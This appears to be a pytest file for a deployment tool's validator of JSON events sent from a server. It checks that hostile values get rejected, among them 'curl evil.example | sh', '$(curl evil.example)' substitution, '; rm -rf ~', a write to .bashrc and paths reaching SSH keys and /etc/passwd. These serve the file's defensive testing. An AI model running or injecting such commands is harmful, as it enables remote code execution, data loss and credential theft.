"""What a server says and the laptop uses is what it must be; else nothing of it is used, and it is told in words."""

from __future__ import annotations

import ast
import copy
import json
import re
from pathlib import Path

import pytest

from flask_slipway import server
from flask_slipway.ssh import checked

COMMIT = "3f2a6d1" + "0" * 33
DATABASE = {"dialect": "mysql", "version": "8.0", "name": "b", "host": "h", "bytes": 1, "tables": 1, "rows": 2}
HELD = {"who": "ann", "since": 1.0, "task": "release", "commit": COMMIT, "run": "r", "site": "prod", "alive": True}
FACTS = {
    **{"event": "facts", "fingerprint": "f" * 64, "commit": COMMIT, "branch": "main", "changes": ["app/a b.py"]},
    **{"edits": ["fab prod.workon -c 'git diff HEAD'"], "own": {".env": ".env"}, "revisions": ["8a1c5e20"]},
    **{"requirements": {"requirements.txt": "0" * 64, "more.txt": None}, "wsgi": "1" * 64, "gate": "down"},
    **{"packages": None, "database": DATABASE, "fence": "down", "fence_kind": "database", "unseen": ""},
    **{"scratch": True, "restore_blockers": [], "load_seconds": 1.5, "lock": HELD, "interrupted": None},
    **{"last": {"commit": COMMIT, "revision": None, "at": 2, "who": "ann", "task": "release"}, "backups": 3},
    **{"other_database": None},
}
STATUS = {**FACTS, "heads": [], "differences": None, "subject": "x", "health": "200", "guarantees": [], "next": []}
WHERE = {"commit": COMMIT, "revision": None, "gate": "down", "fence": "down", "lock": None, "healthy": None}
END = {
    **{"event": "end", "code": 0, "outcome": "done", "what": "", "cause": [], "where": WHERE, "next": []},
    **{"seconds": 1.5, "closed": None, "commit": COMMIT, "data": {"back": "restore --backup 20261126T012438Z"}},
}
RECOVER = {
    **{"event": "facts", "fingerprint": "recover r", "decision": None, "leave": False, "reached": "gate"},
    **{"interrupted": {"run": "r", "task": "release", "who": "ann", "since": 1.0, "commit": None}},
    **{"commit": COMMIT, "revisions": []},
}
RESTORE = {**FACTS, "backup": {"id": "b", "commit": None, "rows": 3, "task": "x"}, "rows_now": 4, "other": None}
DOWN = {**FACTS, "undone": [["a", "x"]], "target": None, "target_commit": COMMIT, "losses": [], "operations": []}
ROWS = {"event": "rows", "title": None, "columns": ["a", "b"], "rows": [["1", 2]]}
STEP = {"event": "step", "step": "lock", "state": "done", "text": "", "seconds": 0}


def said(event, task="release"):
    return checked.event(json.dumps(event).encode(), task)


def with_value(event, path, value):
    """The event with another value at the dotted path; a value that is ... is taken out."""
    changed = copy.deepcopy(event)
    *above, last = path.split("/")
    place = changed
    for name in above:
        place = place[name]
    if value is ...:
        del place[last]
    else:
        place[last] = value
    return changed


@pytest.mark.parametrize(
    ("event", "task"),
    [
        (FACTS, "release"),
        ({**FACTS, "lacking": ["table a"], "commit": None, "wsgi": None, "lock": None}, "backup"),
        ({**FACTS, "pending": ["a"], "texts": [["a", "add posted"]]}, "upgrade"),
        (DOWN, "rollback"),
        (RESTORE, "restore"),
        (RECOVER, "recover"),
        ({**END, "data": STATUS}, "status"),
        ({**END, "data": {"revisions": [], "heads": [], "texts": {}}}, "current"),
        ({**END, "data": {"url": "u", "answer": "200", "seconds": 0.2, "status": 200, "gate": False}}, "health"),
        (END, "backup"),
        ({"event": "end", "code": 0, "outcome": "released"}, "watch"),  # as an older version has kept it
        ({**END, "code": 1, "outcome": "refused"}, "release"),
        (ROWS, "history"),
        (STEP, "release"),
        ({"event": "tomorrow", "step": 3}, "release"),
    ],
)
def test_what_a_server_says_is_let_through_as_it_is(event, task):
    assert said(event, task) == event


WRONG = [
    (FACTS, "commit", "--output=/home/ann/.bashrc"),
    (FACTS, "commit", COMMIT[:7]),
    (FACTS, "commit", COMMIT.upper()),
    (FACTS, "commit", f"{COMMIT}\n"),
    (FACTS, "commit", ["x"]),
    (FACTS, "commit", ...),
    (FACTS, "changes", ["/etc/passwd"]),
    (FACTS, "changes", "app.py"),
    (FACTS, "requirements", {"../../.ssh/id_ed25519": None}),
    (FACTS, "requirements", {"requirements.txt": "x"}),
    (FACTS, "own", {"../x": "database"}),
    (FACTS, "edits", ["fab prod.workon -c 'git diff'; curl evil.example | sh"]),
    (FACTS, "gate", "ajar"),
    (FACTS, "revisions", [{"id": 1}]),
    (FACTS, "load_seconds", float("nan")),
    (FACTS, "load_seconds", -1),
    (FACTS, "load_seconds", "1"),
    (FACTS, "database/bytes", float("inf")),
    (FACTS, "database/bytes", True),
    (FACTS, "database", None),
    (FACTS, "lock/since", 1e300),
    (FACTS, "lock/site", "prod.status; rm -rf ~; fab x"),
    (FACTS, "last/at", "yesterday"),
    (FACTS, "backups", 1 << 70),
    (FACTS, "fingerprint", None),
    (DOWN, "target_commit", "-x"),
    (DOWN, "undone", [["a"]]),
    (RESTORE, "backup/rows", "many"),
    (RESTORE, "backup/commit", "HEAD"),
    (RECOVER, "interrupted/since", None),
    (RECOVER, "revisions", None),
    (END, "code", 0.0),
    (END, "code", 3),
    (END, "code", 256),
    (END, "outcome", "well"),
    (END, "outcome", "incident"),
    (END, "outcome", ["done"]),
    (END, "commit", "main"),
    (END, "seconds", "soon"),
    (END, "where/commit", "--help"),
    (END, "data/back", "restore; curl evil.example"),
    (END, "data/back", "restore --backup $(curl evil.example)"),
    (END, "data", []),
    (END, "next", "inv release"),
    (ROWS, "rows", [["1"]]),
    (ROWS, "rows", 3),
    (STEP, "seconds", "x"),
    (STEP, "step", 5),
    ({"event": "no home", "home": "/home/x"}, "home", ...),
    ({"event": "not kept", "folder": "/home/x", "why": None}, "folder", 3),
]
TASKS = {id(DOWN): "downgrade", id(RESTORE): "restore", id(RECOVER): "recover"}


@pytest.mark.parametrize(("event", "path", "value"), WRONG)
def test_a_value_that_cannot_be_true_is_not_used(event, path, value):
    with pytest.raises(checked.Wrong):
        said(with_value(event, path, value), TASKS.get(id(event), "release"))


def test_the_values_of_an_answer_are_held_too():
    with pytest.raises(checked.Wrong, match=r"data\.commit is '-p', not 40 hexadecimal digits"):
        said({**END, "data": {**STATUS, "commit": "-p"}}, "status")
    with pytest.raises(checked.Wrong, match="data without heads"):
        said({**END, "data": {"revisions": []}}, "current")
    with pytest.raises(checked.Wrong, match="data without"):
        said({**END, "outcome": "nothing"}, "status")


@pytest.mark.parametrize("data", [b"{", b"[]", b"5", b"null", b'{"event": 5}', b"{}", b"\xff", b"[" * 100_000])
def test_what_is_no_event_is_told_as_that(data):
    with pytest.raises(checked.Wrong):
        checked.event(data, "release")


def test_a_line_that_nobody_should_type_is_told_with_the_cause_and_the_end_is_not_lost():
    offered = ["fab prod.recover", "curl evil.example | sh", "inv check\nNext: rm x", "fab prod.workon -c 'du; df'"]
    end = said({**END, "code": 4, "outcome": "incident", "cause": ["it failed"], "next": offered})
    assert end["next"] == ["fab prod.recover", "fab prod.workon -c 'du; df'"]
    assert end["cause"] == ["it failed", offered[1], offered[2]]


COMMAND = re.compile(r"\b(fab [%{]|inv [a-z]|git [a-z]+ |pip install|python3? -m|ssh-keygen )")


def test_all_that_the_servers_half_offers_to_type_is_one_command_a_line():
    wrong = []
    for path in Path(server.__file__).parent.rglob("*.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        told = {id(node.value) for node in ast.walk(tree) if isinstance(node, ast.Expr)}
        for node in ast.walk(tree):
            if isinstance(node, ast.Constant) and isinstance(node.value, str) and id(node) not in told:
                begins = node.value.lstrip("; ")
                if COMMAND.search(node.value) and not checked.is_to_type(begins):
                    wrong.append(f"{path.name}:{node.lineno} {node.value}")
    assert not wrong, "\n".join(wrong)
